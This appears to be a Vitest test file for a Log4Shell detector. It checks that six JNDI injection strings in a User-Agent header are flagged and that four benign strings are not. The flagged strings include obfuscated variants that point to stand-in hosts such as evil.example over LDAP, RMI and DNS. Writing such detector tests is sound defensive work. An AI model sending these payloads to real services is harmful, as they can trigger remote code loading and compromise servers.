// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal Log4j and shell lookups, not templates.
import { describe, expect, it } from 'vitest';
import { log4shell } from '#sidecar/threats/log4shell.ts';
import { httpRequest, runThreat } from './threat-factories.ts';

describe('log4shell', () => {
  it.each([
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:${lower:l}dap://evil/x}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://evil/x}',
    '${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil/x}',
    '$%7Bjndi:dns://evil/x%7D',
    '${\\u006a\\u006e\\u0064\\u0069:ldap://evil}',
  ])('flags %j in the User-Agent header', (payload) => {
    expect(runThreat(log4shell, [httpRequest('/', { headers: [['User-Agent', payload]] })])[0]?.threat).toBe(
      'log4shell',
    );
  });

  it.each([
    'We need to secure our LDAP: server',
    'jndi: "this is just a test"',
    'price is ${amount}',
    'Hello ${name}!',
  ])('does not flag %j', (value) => {
    expect(runThreat(log4shell, [httpRequest('/', { headers: [['X-Note', value]] })])).toEqual([]);
  });
});
